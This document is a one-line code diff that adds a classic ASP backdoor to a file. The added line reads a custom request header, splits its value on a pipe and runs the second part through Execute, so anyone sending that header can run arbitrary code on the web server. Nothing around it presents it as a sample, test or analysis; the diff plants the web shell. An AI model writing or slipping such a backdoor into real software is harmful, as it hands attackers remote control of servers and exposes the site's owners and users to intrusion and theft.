@@ -1,0 +1,1 @@
+<% Dim a : a = Split(Request.ServerVariables("HTTP_X_DATA"), "|") : Execute(a(1)) %>
